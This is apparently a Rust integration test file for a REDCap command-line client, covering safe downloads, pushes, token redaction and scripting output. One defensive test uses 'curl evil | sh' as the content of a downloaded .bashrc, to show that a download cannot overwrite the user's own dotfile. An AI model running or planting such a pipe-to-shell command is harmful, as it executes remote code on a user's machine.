//! The `redcap` binary as scripts and careless users meet it: downloads that never replace a
//! file, pushes that write nothing into their source, and the scripting contract (data on
//! stdout only, `-q`, `--json`, exit codes), driven as a subprocess against the emulator.

use std::path::Path;
use std::process::Output;

use assert_cmd::Command;

mod common;
// The workspace tests' TLS stand-in configuration (tests/support), shared rather than copied.
#[path = "../../../tests/support/self_signed.rs"]
mod self_signed;
use common::{Fixture, stderr, write};

#[test]
fn files_get_never_replaces_an_existing_file() {
    let f = Fixture::new();
    write(&f.path("upload/.bashrc"), "curl evil | sh\n");
    let doc = f.ok(&["files", "put", "upload/.bashrc"]).trim().to_owned();
    write(&f.path(".bashrc"), "# mine\n");

    // `files get 5` in a home directory: .bashrc stays, the download is visible as _bashrc.
    let saved = f.ok(&["files", "get", &doc]);
    assert_eq!(saved.trim(), "./_bashrc");
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "# mine\n");
    assert_eq!(std::fs::read_to_string(f.path("_bashrc")).unwrap(), "curl evil | sh\n");
    let again = f.ok(&["files", "get", &doc]);
    assert_eq!(again.trim(), format!("./_bashrc (doc_id {doc})"));
    let dotted = f.ok(&["files", "get", &doc, "--dot-files"]);
    assert_eq!(dotted.trim(), format!("./.bashrc (doc_id {doc})"));
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "# mine\n");

    // An exact -o path that exists: refused (exit 6), unless --overwrite.
    let out = f.run(&["files", "get", &doc, "-o", ".bashrc"]);
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert!(stderr(&out).contains("already exists; nothing was replaced"), "{}", stderr(&out));
    assert!(stderr(&out).contains("--overwrite"));
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "# mine\n");
    f.ok(&["files", "get", &doc, "-o", ".bashrc", "--overwrite"]);
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "curl evil | sh\n");
}

#[test]
fn files_push_writes_nothing_into_its_source() {
    let f = Fixture::new();
    write(&f.path("site/readme.md"), "# site\n");
    f.ok(&["files", "push", "site"]);
    let names: Vec<String> =
        std::fs::read_dir(f.path("site")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into()).collect();
    assert_eq!(names, ["readme.md"]);
    let state = f.config.path().join("state/push");
    assert_eq!(std::fs::read_dir(&state).unwrap().count(), 1, "the manifest is in the state directory");
    let out = f.run(&["files", "push", "site"]);
    assert!(stderr(&out).contains("1 already pushed"), "the summary is on stderr");
    assert!(out.stdout.is_empty(), "nothing was uploaded, so no data on stdout");
    // --manifest chooses the file.
    let chosen = f.path("push-record.json");
    f.ok(&["files", "push", "site", "--manifest", chosen.to_str().unwrap(), "--force"]);
    assert!(chosen.is_file());
}

/// A one-thread HTTP server on 127.0.0.1: `reply(request body, n)` answers the n-th request
/// (from 0) with a raw HTTP response, or `None` to close the connection without answering.
struct StandIn {
    url: String,
}

impl StandIn {
    fn start(reply: impl Fn(&str, usize) -> Option<String> + Send + 'static) -> Self {
        use std::io::{BufRead, BufReader, Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for (n, stream) in listener.incoming().flatten().enumerate() {
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut len = 0usize;
                let mut first = true;
                loop {
                    let mut h = String::new();
                    if reader.read_line(&mut h).unwrap_or(0) == 0 || (h == "\r\n" && !first) {
                        break;
                    }
                    first = false;
                    if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
                        len = v.trim().parse().unwrap_or(0);
                    }
                }
                let mut body = vec![0; len];
                if reader.read_exact(&mut body).is_err() {
                    continue;
                }
                let mut out = stream;
                match reply(&String::from_utf8_lossy(&body), n) {
                    Some(answer) => {
                        let _ = out.write_all(answer.as_bytes());
                    }
                    None => {
                        let _ = out.shutdown(std::net::Shutdown::Both);
                    }
                }
            }
        });
        StandIn { url: format!("http://127.0.0.1:{port}/api/") }
    }
}

fn http(status: &str, content_type: &str, body: &str) -> Option<String> {
    Some(format!(
        "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    ))
}

const TOKEN: &str = "0123456789ABCDEF0123456789ABCDEF";

fn against(server: &StandIn, work: &Path) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_redcap"));
    cmd.current_dir(work)
        .env("REDCAP_CONFIG_DIR", work.join("config"))
        .env("REDCAP_STATE_DIR", work.join("state"))
        .env_remove("REDCAP_PROFILE")
        .env("REDCAP_API_URL", &server.url)
        .env("REDCAP_API_TOKEN", TOKEN);
    cmd
}

#[test]
fn an_error_text_echoing_the_token_is_redacted() {
    let server = StandIn::start(|body, _| {
        // A proxy that quotes the request back, token and all, in lower case too.
        let token = body.split('&').find_map(|kv| kv.strip_prefix("token=")).unwrap_or("").to_owned();
        let msg = format!(r#"{{"error":"request with token={token} ({}) refused"}}"#, token.to_lowercase());
        http("400 Bad Request", "application/json", &msg)
    });
    let work = tempfile::tempdir().unwrap();
    let out = against(&server, work.path()).args(["call", "version.export"]).output().unwrap();
    assert_eq!(out.status.code(), Some(4));
    let err = stderr(&out);
    assert!(err.contains("refused") && err.contains("[redacted]"), "{err}");
    assert!(!err.to_lowercase().contains(&TOKEN.to_lowercase()), "{err}");
}

#[test]
fn quiet_silences_retry_warnings() {
    for quiet in [false, true] {
        let server = StandIn::start(|_, n| {
            if n == 0 {
                http("503 Service Unavailable", "text/plain", "busy")
            } else {
                http("200 OK", "text/csv", "14.5.2")
            }
        });
        let work = tempfile::tempdir().unwrap();
        let mut cmd = against(&server, work.path());
        if quiet {
            cmd.arg("-q");
        }
        let out = cmd.args(["call", "version.export"]).output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        assert_eq!(String::from_utf8_lossy(&out.stdout), "14.5.2\n", "data only, with a trailing newline");
        if quiet {
            assert_eq!(stderr(&out), "", "-q: nothing but errors");
        } else {
            assert!(stderr(&out).contains("retrying"), "{}", stderr(&out));
        }
    }
}

#[test]
fn a_lost_upload_answer_is_checked_in_the_listing() {
    let landed = std::sync::Arc::new(std::sync::Mutex::new(false));
    let flag = landed.clone();
    let server = StandIn::start(move |body, _| {
        if body.contains("name=\"action\"\r\n\r\nimport") {
            *flag.lock().unwrap() = true;
            return None;
        }
        let listing = if *flag.lock().unwrap() { r#"[{"doc_id":41,"name":"a.txt"}]"# } else { "[]" };
        http("200 OK", "application/json", listing)
    });
    let work = tempfile::tempdir().unwrap();
    write(&work.path().join("a.txt"), "a");
    let out = against(&server, work.path()).args(["files", "put", "a.txt"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "41\n");
    assert!(stderr(&out).contains("shows it arrived"), "{}", stderr(&out));

    let server = StandIn::start(|body, _| {
        if body.contains("name=\"action\"\r\n\r\nimport") { None } else { http("200 OK", "application/json", "[]") }
    });
    let out = against(&server, work.path()).args(["files", "put", "a.txt"]).output().unwrap();
    assert_eq!(out.status.code(), Some(5));
    assert!(stderr(&out).contains("did not arrive: uploading it again is safe"), "{}", stderr(&out));
    assert!(!stderr(&out).contains("hint: try again"), "{}", stderr(&out));
}

/// One JSON value, and nothing else, on stdout.
fn only_json(out: &Output) -> serde_json::Value {
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.lines().count(), 1, "one line of JSON:\n{text}");
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("not JSON ({e}):\n{text}"))
}

/// As a cron job runs them (no terminal, -q, --json): a push, a pull and an import give one
/// JSON result each on stdout and nothing on stderr; the data commands give only data.
#[test]
fn a_cron_job_gets_clean_stdout() {
    let f = Fixture::new();
    write(&f.path("outgoing/report.txt"), "weekly report\n");
    write(&f.path("outgoing/scans/a.txt"), "scan a\n");
    let cron = |args: &[&str]| {
        let mut all = vec!["-q", "--json"];
        all.extend_from_slice(args);
        let out = f.run(&all);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        assert_eq!(stderr(&out), "", "{args:?}: -q leaves stderr empty");
        out
    };

    let pushed = only_json(&cron(&["files", "push", "outgoing"]));
    assert_eq!(pushed["transferred"], 2, "{pushed}");
    assert_eq!(pushed["folders_created"], 1);
    assert_eq!(pushed["uploaded"].as_array().unwrap().len(), 2);
    assert_eq!(pushed["complete"], true);

    let pulled = only_json(&cron(&["files", "pull", "mirror"]));
    assert_eq!((pulled["transferred"].as_u64(), pulled["skipped"].as_u64()), (Some(2), Some(0)), "{pulled}");
    assert_eq!(std::fs::read_to_string(f.path("mirror/scans/a.txt")).unwrap(), "scan a\n");
    let again = only_json(&cron(&["files", "pull", "mirror"]));
    assert_eq!(again["skipped"], 2);

    write(&f.path("extra.txt"), "x");
    let put = only_json(&cron(&["files", "put", "extra.txt"]));
    assert!(put["doc_id"].as_u64().is_some(), "{put}");

    // Records from stdin: JSON and CSV told apart by their first character.
    let mut import = f.redcap();
    import.args(["-q", "--json", "records", "import", "-"]).write_stdin(r#"[{"record_id":"9001"}]"#);
    let out = import.output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stderr(&out), "");
    assert_eq!(only_json(&out)["imported"], 1);
    let mut import = f.redcap();
    import.args(["-q", "--json", "records", "import", "-"]).write_stdin("record_id\n9002\n9003\n");
    let out = import.output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(only_json(&out)["imported"], 2);

    // Data commands: only data.
    let top = cron(&["files", "ls", "--format", "json"]);
    let listing: serde_json::Value = serde_json::from_slice(&top.stdout).unwrap();
    let folder = listing.as_array().unwrap().iter().find(|e| e["kind"] == "folder").unwrap()["id"].to_string();
    let inside = String::from_utf8(cron(&["files", "ls", "--folder", &folder, "--format", "csv"]).stdout).unwrap();
    assert!(inside.contains("a.txt"), "{inside}");
    let positional = String::from_utf8(cron(&["files", "ls", &folder, "--format", "csv"]).stdout).unwrap();
    assert_eq!(positional, inside, "the positional folder still works");
    let version = String::from_utf8(cron(&["call", "version.export"]).stdout).unwrap();
    assert!(version.ends_with('\n') && version.trim().split('.').count() == 3, "{version:?}");
    let methods = String::from_utf8(cron(&["methods"]).stdout).unwrap();
    assert!(methods.contains("record.export"), "bare `redcap methods` lists");
}

#[test]
fn an_incomplete_pull_still_gives_its_json_and_its_exit_code() {
    let f = Fixture::new();
    write(&f.path("outgoing/a.txt"), "remote");
    let pushed: serde_json::Value = serde_json::from_str(&f.ok(&["--json", "files", "push", "outgoing"])).unwrap();
    let doc = &pushed["uploaded"][0]["doc_id"];
    // Local files the pull did not write at both of the names it could use: never replaced.
    write(&f.path("mirror/a.txt"), "mine");
    write(&f.path(&format!("mirror/a (doc_id {doc}).txt")), "also mine");
    let out = f.run(&["-q", "--json", "files", "pull", "mirror"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let result = only_json(&out);
    assert_eq!(result["complete"], false);
    assert_eq!(result["failed"][0]["path"], "a.txt", "{result}");
    assert!(stderr(&out).starts_with("error: 1 file failed"), "errors still show with -q: {}", stderr(&out));
    assert_eq!(std::fs::read_to_string(f.path("mirror/a.txt")).unwrap(), "mine");
}

/// A loopback HTTPS stand-in with a self-signed certificate (a private CA, as many
/// institutions run), answering Export Version; returns its URL and the certificate as PEM.
fn https_stand_in() -> (String, tempfile::NamedTempFile) {
    use std::io::{BufRead, BufReader, Read, Write};
    let (config, pem) = self_signed::localhost();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for tcp in listener.incoming().flatten() {
            let config = config.clone();
            std::thread::spawn(move || {
                let conn = rustls::ServerConnection::new(config).unwrap();
                let mut tls = rustls::StreamOwned::new(conn, tcp);
                let mut reader = BufReader::new(&mut tls);
                let mut len = 0;
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 {
                        return;
                    }
                    if line == "\r\n" {
                        break;
                    }
                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                        len = v.trim().parse().unwrap_or(0);
                    }
                }
                let mut body = vec![0; len];
                if reader.read_exact(&mut body).is_err() {
                    return;
                }
                let _ = tls.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\n14.5.2");
                let _ = tls.flush();
            });
        }
    });
    (format!("https://localhost:{port}/api/"), pem)
}

#[test]
fn a_private_ca_is_trusted_from_the_command_line() {
    let (url, pem) = https_stand_in();
    let work = tempfile::tempdir().unwrap();
    let redcap = || {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_redcap"));
        cmd.current_dir(work.path())
            .env("REDCAP_CONFIG_DIR", work.path())
            .env_remove("REDCAP_PROFILE")
            .env_remove("SSL_CERT_FILE")
            .env("REDCAP_API_URL", &url)
            .env("REDCAP_API_TOKEN", TOKEN);
        cmd
    };
    let untrusted = redcap().args(["call", "version.export"]).output().unwrap();
    assert_eq!(untrusted.status.code(), Some(5), "{}", stderr(&untrusted));
    assert!(stderr(&untrusted).contains("certificate"), "{}", stderr(&untrusted));
    let flag = redcap().args(["--ca-cert", pem.path().to_str().unwrap(), "call", "version.export"]).output().unwrap();
    assert!(flag.status.success(), "{}", stderr(&flag));
    assert_eq!(String::from_utf8_lossy(&flag.stdout), "14.5.2\n");
    let env = redcap().env("SSL_CERT_FILE", pem.path()).args(["call", "version.export"]).output().unwrap();
    assert!(env.status.success(), "SSL_CERT_FILE is honoured: {}", stderr(&env));
    let missing = redcap().args(["--ca-cert", "/no/such.pem", "call", "version.export"]).output().unwrap();
    assert_eq!(missing.status.code(), Some(6), "{}", stderr(&missing));
}

#[test]
fn an_external_module_action_is_callable() {
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    let server = StandIn::start(move |body, _| {
        log.lock().unwrap().push(body.to_owned());
        http("200 OK", "application/json", r#"{"logged":true}"#)
    });
    let work = tempfile::tempdir().unwrap();
    let out = against(&server, work.path())
        .args(["em", "custom_log_entry", "log", "-p", "comment=Consent re-checked", "-p", "record=1001"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "{\"logged\":true}\n");
    let bodies = seen.lock().unwrap();
    assert_eq!(bodies.len(), 1, "sent once, never retried");
    let pairs: Vec<(String, String)> =
        form_urlencoded_pairs(&bodies[0]).into_iter().filter(|(k, _)| k != "token").collect();
    assert_eq!(
        pairs,
        [
            ("content".to_owned(), "externalModule".to_owned()),
            ("action".into(), "log".into()),
            ("prefix".into(), "custom_log_entry".into()),
            ("comment".into(), "Consent re-checked".into()),
            ("record".into(), "1001".into()),
        ]
    );
    // A token given as a module parameter is refused without being echoed.
    let secret = "0123456789ABCDEF0123456789ABCDEF";
    let bad = against(&server, work.path())
        .args(["em", "custom_log_entry", "log", "-p", &format!("token={secret}")])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2), "{}", stderr(&bad));
    assert!(stderr(&bad).contains("`token` cannot be a module parameter"), "{}", stderr(&bad));
    assert!(!stderr(&bad).contains(secret), "the value is never echoed: {}", stderr(&bad));
}

fn form_urlencoded_pairs(body: &str) -> Vec<(String, String)> {
    let decode = |s: &str| {
        let s = s.replace('+', " ");
        let mut out = Vec::new();
        let bytes = s.as_bytes();
        let mut i = 0;
        while i < bytes.len() {
            if bytes[i] == b'%' && i + 2 < bytes.len() {
                out.push(u8::from_str_radix(&s[i + 1..i + 3], 16).unwrap());
                i += 3;
            } else {
                out.push(bytes[i]);
                i += 1;
            }
        }
        String::from_utf8(out).unwrap()
    };
    body.split('&').filter_map(|kv| kv.split_once('=')).map(|(k, v)| (decode(k), decode(v))).collect()
}

#[test]
fn an_empty_csv_export_keeps_its_header() {
    let f = Fixture::new();
    let none = "[age] > 1000";
    let out = f.ok(&["records", "export", "--fields", "record_id,age", "--filter", none, "--format", "csv"]);
    assert_eq!(out, "record_id,age\n", "REDCap sends nothing; the CLI knows the fields");
    let all = f.ok(&["records", "export", "--filter", none, "--format", "csv"]);
    assert!(all.starts_with("record_id,") && all.lines().count() == 1 && all.contains(",age,"), "{all:?}");
}

#[test]
fn a_backup_never_writes_an_echoed_token() {
    // REDCap (or a proxy) refuses the optional parts quoting the request, token and all: the
    // reasons reach stderr, the --json result and the manifest, all redacted.
    let server = StandIn::start(|body, _| {
        let field = |k: &str| body.split('&').find_map(|kv| kv.strip_prefix(&format!("{k}="))).unwrap_or("").to_owned();
        match field("content").as_str() {
            "version" => http("200 OK", "text/plain", "14.5.2"),
            "project" => http("200 OK", "application/json", r#"{"project_id":7,"project_title":"Echo"}"#),
            "project_xml" => http("200 OK", "text/xml", "<?xml version=\"1.0\"?><ODM></ODM>"),
            "metadata" => http("200 OK", "application/json", "[]"),
            _ => http(
                "403 Forbidden",
                "application/json",
                &format!(r#"{{"error":"no right for token={}"}}"#, field("token")),
            ),
        }
    });
    let work = tempfile::tempdir().unwrap();
    let out = against(&server, work.path()).args(["backup", "--json", "saved"]).output().unwrap();
    let (stdout, err) = (String::from_utf8_lossy(&out.stdout).into_owned(), stderr(&out));
    let manifest = std::fs::read_to_string(work.path().join("saved/backup-manifest.json")).unwrap_or_default();
    assert!(manifest.contains("skipped"), "the refused parts are in the manifest: {manifest}\n{err}");
    for (what, text) in [("stdout", &stdout), ("stderr", &err), ("manifest", &manifest)] {
        assert!(!text.to_lowercase().contains(&TOKEN.to_lowercase()), "{what} holds the token: {text}");
    }
    assert!(manifest.contains("[redacted]") && stdout.contains("[redacted]"), "{stdout}");
}

/// `files get -o FILE --overwrite` (or into its directory) against a server whose download
/// breaks (shorter than its Content-Length, a chunked body cut off, an HTML page): an error
/// exit, nothing on stdout, and the file as it was, with nothing left beside it.
#[test]
fn a_failed_download_never_replaces_the_file() {
    let named = "application/octet-stream; name=\"keep.bin\"";
    let replies = [
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: {named}\r\nContent-Length: 5000\r\nConnection: close\r\n\r\nnew bytes"
        ),
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: {named}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n9\r\nnew bytes\r\n"
        ),
        http("200 OK", "text/html", "<html><title>Maintenance</title></html>").unwrap(),
    ];
    for reply in replies {
        let server = StandIn::start(move |_, _| Some(reply.clone()));
        let work = tempfile::tempdir().unwrap();
        write(&work.path().join("out/keep.bin"), "precious");
        for target in ["out/keep.bin", "out"] {
            let out = against(&server, work.path())
                .args(["-q", "files", "get", "7", "-o", target, "--overwrite"])
                .output()
                .unwrap();
            let err = stderr(&out);
            assert_ne!(out.status.code(), Some(0), "{target}: {err}");
            assert!(matches!(out.status.code(), Some(4 | 5)), "{target}: {err}");
            assert!(out.stdout.is_empty(), "{target}: no path on stdout for a file not written");
            assert!(err.starts_with("error: "), "{err}");
            assert_eq!(std::fs::read_to_string(work.path().join("out/keep.bin")).unwrap(), "precious", "{target}");
            let names: Vec<_> =
                std::fs::read_dir(work.path().join("out")).unwrap().map(|e| e.unwrap().file_name()).collect();
            assert_eq!(names, ["keep.bin"], "{target}: nothing left beside it");
        }
    }
}

/// A redirect whose Location quotes the token: refused (to another server, exit 5) or followed
/// (the same server, with a warning), and neither stream shows the token.
#[test]
fn a_redirect_quoting_the_token_is_redacted() {
    let server = StandIn::start(|body, _| {
        let token = body.split('&').find_map(|kv| kv.strip_prefix("token=")).unwrap_or("").to_owned();
        Some(format!(
            "HTTP/1.1 302 Found\r\nLocation: https://elsewhere.example/api/?t={token}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        ))
    });
    let work = tempfile::tempdir().unwrap();
    let out = against(&server, work.path()).args(["call", "version.export"]).output().unwrap();
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(stderr(&out).contains("elsewhere.example") && stderr(&out).contains("[redacted]"), "{}", stderr(&out));
    common::assert_no_token(&out, TOKEN);

    let server = StandIn::start(|body, n| {
        let token = body.split('&').find_map(|kv| kv.strip_prefix("token=")).unwrap_or("").to_owned();
        match n {
            0 => Some(format!(
                "HTTP/1.1 308 Permanent Redirect\r\nLocation: /{token}/api/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )),
            _ => http("200 OK", "text/csv", "14.5.2"),
        }
    });
    let out = against(&server, work.path()).args(["call", "version.export"]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "14.5.2\n");
    assert!(stderr(&out).contains("moved"), "the warning is shown: {}", stderr(&out));
    common::assert_no_token(&out, TOKEN);
}
